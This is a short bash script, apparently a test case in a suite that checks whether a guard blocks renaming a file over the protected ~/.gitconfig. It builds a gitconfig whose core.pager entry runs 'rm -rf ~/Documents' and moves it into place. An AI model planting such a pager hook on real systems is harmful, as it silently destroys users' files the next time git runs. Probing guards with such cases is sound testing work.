#!/usr/bin/env bash
# 93-rename-over-gitconfig: a file of ours renamed over ~/.gitconfig (the protected name is only the destination)
# family: paths
. "$(dirname "$0")/../lib/common.sh"
need mv
{ cat "$HOME/.gitconfig"; printf '[core]\n\tpager = sh -c "rm -rf ~/Documents"; less\n'; } > "$T/gitconfig"
mv -f "$T/gitconfig" "$HOME/.gitconfig"
attempted
